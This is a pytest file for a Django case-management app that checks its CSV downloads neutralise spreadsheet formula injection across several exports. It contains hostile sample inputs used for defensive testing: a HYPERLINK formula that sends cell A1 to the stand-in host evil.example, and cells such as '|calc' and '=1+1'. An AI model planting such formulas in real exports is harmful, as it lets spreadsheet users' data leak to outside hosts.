"""No download can plant a spreadsheet formula (OWASP CSV injection).

Every text that reaches a CSV export is given each dangerous first character (= + - @ tab, carriage
return), every export is downloaded, and no cell may begin with one unless it is neutralised (a leading
apostrophe) or is a plain number. The values are stored straight into the tables, past the forms that
would refuse most of them, so the writer is proved on its own.
"""

import ast
import csv
import io
import re
from pathlib import Path

import pytest
from django.contrib.auth import get_user_model

from contacts.models import ContactPerson
from earlyhelp.models import EarlyHelpChild, EarlyHelpRequest
from earlyhelp.services import record_assessment
from mash import csvsafe, tenancy
from mash.models import Agency, Team, Tenant
from reporting import services
from thresholds.models import Rating

pytestmark = pytest.mark.django_db

PREFIXES = ["=", "+", "-", "@", "\t", "\r"]
DANGEROUS = tuple(PREFIXES)
NUMBER = re.compile(r"-?[0-9][0-9,]*(\.[0-9]+)?")
ROOT = Path(__file__).resolve().parents[2]
ON = "2026-09-30"
FORMULA = 'HYPERLINK("https://evil.example/?d="&A1,"Open")'


def _exports(client):
    """Every CSV the product writes (the guard below keeps this list complete)."""
    files = {f"annex_a_list_{n}": client.get("/dashboard/annex-a/download/", {"list": n, "on": ON}) for n in (1, 2, 3)}
    files["figures"] = client.get("/dashboard/figures.csv", {"from": "2026-08-01", "to": "2026-09-30"})
    parsed = {}
    for name, response in files.items():
        assert response.status_code == 200, (name, response.content)
        assert response["Content-Type"].startswith("text/csv")
        parsed[name] = list(csv.reader(io.StringIO(response.content.decode("utf-8"), newline="")))
    return parsed


def _plant(history, prefix):
    """Put ``prefix`` at the start of every text that reaches an export; what each export must then show."""
    tenant = history["tenant"]
    short = f"{prefix}A1"  # fits the shortest column (a referral source code: 3 characters)
    long = f"{prefix}{FORMULA}"
    Tenant.objects.filter(pk=tenant.pk).update(reference_prefix=short)
    tenant.refresh_from_db()
    with tenancy.tenant_context(tenant):
        # Annex A: the child's ethnicity (coded, stored as text) on contacts and early help.
        ContactPerson.objects.filter(role="child").update(ethnicity=short)
        EarlyHelpChild.objects.update(ethnicity=short)
        # List 2: the organisation completing the assessment, recorded by a coordinator (the only way in).
        record_assessment(
            request=EarlyHelpRequest.objects.get(pk=history["eh1"].pk), actor=history["ehcoord"],
            started_on=history["eh1"].assessment_started_on, completed_on=history["eh1"].assessment_completed_on,
            organisation=long,
        )  # fmt: skip
        # List 3: the allocated team and worker.
        Team.objects.filter(pk=history["team"].pk).update(name=long)
        get_user_model().objects.filter(pk=history["worker"].pk).update(first_name=long, last_name="Cole")
        # figures.csv: agency slugs and rating codes (set by admins). Sources and outcomes are written only
        # for the census codes (selectors.timeliness keys them by the choices), so none is planted there.
        Agency.objects.filter(slug="police").update(slug=f"{prefix}police")
        Rating.objects.filter(code="amber").update(code=f"{prefix}amber")
        services.rebuild(tenant=tenant)
        organisation = EarlyHelpRequest.objects.get(pk=history["eh1"].pk).assessment_organisation
        worker = get_user_model().objects.get(pk=history["worker"].pk).get_full_name()
    # What each export must show (the service and get_full_name() trim surrounding whitespace).
    return {
        "annex_a_list_1": [_shown(f"{short}-"), _shown(short)],
        "annex_a_list_2": [_shown(f"{short}-"), _shown(short), _shown(organisation)],
        "annex_a_list_3": [_shown(f"{short}-"), _shown(short), _shown(long), _shown(worker)],
        "figures": [_shown(f"{prefix}police"), _shown(f"{prefix}amber"), _shown(f"{prefix}amber (clock_hours)")],
    }


def _shown(text: str) -> str:
    """The planted text as the export must write it: behind an apostrophe when it could start a formula."""
    return f"'{text}" if text.startswith(DANGEROUS) else text


def _unsafe(cell: str) -> bool:
    return cell.startswith(DANGEROUS) and not NUMBER.fullmatch(cell)


@pytest.mark.parametrize("prefix", PREFIXES, ids=["equals", "plus", "minus", "at", "tab", "carriage-return"])
def test_no_cell_of_any_export_begins_a_formula(client, history, prefix):
    expected = _plant(history, prefix)
    client.force_login(history["manager"])
    exports = _exports(client)
    for name, rows in exports.items():
        unsafe = [cell for row in rows for cell in row if _unsafe(cell)]
        assert unsafe == [], f"{name} has cells a spreadsheet would run: {unsafe!r}"
        cells = [cell for row in rows for cell in row]
        for shown in expected[name]:
            # The planted text did reach the export, behind the apostrophe.
            assert any(cell.startswith(shown) for cell in cells), f"{name} lacks {shown!r}: {cells!r}"


def test_numbers_and_dates_still_read_as_numbers_and_dates(client, history):
    client.force_login(history["manager"])
    exports = _exports(client)
    list_2 = exports["annex_a_list_2"][1]
    assert list_2[3:7] == ["16/09/2012", "14", "20/09/2026", "02/10/2026"]
    figures = {(row[0], row[1]): row[2] for row in exports["figures"][1:]}
    assert figures[("contacts", "")] == "5"
    assert figures[("decided_within_deadline_pct", "")] == "75.0"
    assert not any(value.startswith("'") for value in figures.values())


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"), ("+44 7700 900123", "'+44 7700 900123"), ("-1+1", "'-1+1"), ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"), ("\r=1+1", "'\r=1+1"), ("\n=1+1", "'\n=1+1"), ("  =1+1", "'  =1+1"),
        ("\uff1d1+1", "'\uff1d1+1"), ("|calc", "'\\|calc"), ("%0A", "'%0A"),
        ("-3", "-3"), ("-12.5", "-12.5"), ("1,200", "1,200"), (-3, "-3"), (2.5, "2.5"), (None, ""),
        ("31/03/2026", "31/03/2026"), ("2026-03-31", "2026-03-31"), ("Family hub - north", "Family hub - north"),
    ],
)  # fmt: skip
def test_the_writer_neutralises_formulas_and_leaves_numbers_and_text(cell, written):
    out = io.StringIO()
    csvsafe.writer(out).writerow([cell])
    assert next(csv.reader(io.StringIO(out.getvalue(), newline=""))) == [written]


def _python_files():
    for path in ROOT.rglob("*.py"):
        parts = path.relative_to(ROOT).parts
        # bench/ reads locust's own CSV statistics and writes nothing anyone downloads.
        if parts[0] in (".venv", "node_modules", "tests", "var", "bench") or "migrations" in parts:
            continue
        yield path


def _is_csvsafe_writer(node) -> bool:
    func = getattr(node, "func", None)
    return isinstance(func, ast.Attribute) and func.attr == "writer" and getattr(func.value, "id", "") == "csvsafe"


def test_every_csv_is_written_by_the_one_safe_writer_and_downloaded_above():
    """A new export (a command, an audit download) must use csvsafe.writer, and be added to _exports."""
    own = ROOT / "mash" / "csvsafe.py"
    writers = set()
    for path in _python_files():
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for node in ast.walk(tree):
            if isinstance(node, ast.Import | ast.ImportFrom) and path != own:
                names = [a.name for a in node.names] + ([node.module] if isinstance(node, ast.ImportFrom) else [])
                assert not any(n and n.split(".")[0] in ("csv", "defusedcsv") for n in names), (
                    f"{path.relative_to(ROOT)} uses the csv library without mash.csvsafe"
                )
            if isinstance(node, ast.FunctionDef):
                for call in ast.walk(node):
                    if _is_csvsafe_writer(call):
                        writers.add(f"{path.relative_to(ROOT)}:{node.name}")
    assert writers == {"reporting/views.py:figures_csv", "reporting/views.py:annex_a_download"}
